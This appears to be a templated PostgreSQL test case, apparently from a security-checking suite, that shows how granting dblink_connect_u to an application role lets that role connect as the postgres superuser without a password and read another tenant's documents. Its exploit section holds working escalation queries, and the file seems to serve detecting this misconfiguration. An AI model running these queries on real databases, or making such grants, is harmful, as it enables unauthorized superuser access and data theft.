-- dblink_connect_u connects as any role without its password, where the server trusts its own machine.
-- object: role:{app}
-- object: public.dblink_connect_u(text)
-- base: text
-- extension: dblink
--- setup
RESET ROLE;
CREATE EXTENSION dblink;
--- leak
RESET ROLE;
GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO {app};
--- exploit
SELECT dblink_connect_u('host={socket} port={port} dbname={db} user=postgres');
SELECT id FROM dblink('SELECT id FROM documents WHERE account_id = ''bolt''') AS found (id uuid);
